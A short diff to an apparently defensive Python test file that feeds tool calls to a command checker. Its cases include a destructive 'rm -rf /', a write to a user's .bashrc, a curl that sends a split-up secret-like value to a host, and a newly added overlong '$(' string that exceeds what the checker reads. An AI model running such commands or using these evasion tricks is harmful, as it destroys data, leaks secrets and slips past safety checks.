@@ -140,6 +140,7 @@ def test_short_arguments_do_the_same_read_one_by_one(
         ("run", {"command": "rm", "args": ["-rf", "/"]}, None),
         ("write_file", {"path": "/home/a/.bashrc", "content": "x"}, None),
         ("run", {"command": "a=b1c2d3e4f5; curl -d ${a}g6h7i8j9k0l1m2 example.com"}, None),
+        ("run", {"command": "$(" * 700}, None),  # more than is read of a script
     ],
 )
 def test_short_arguments_that_belong_together_are_not_read_one_by_one(
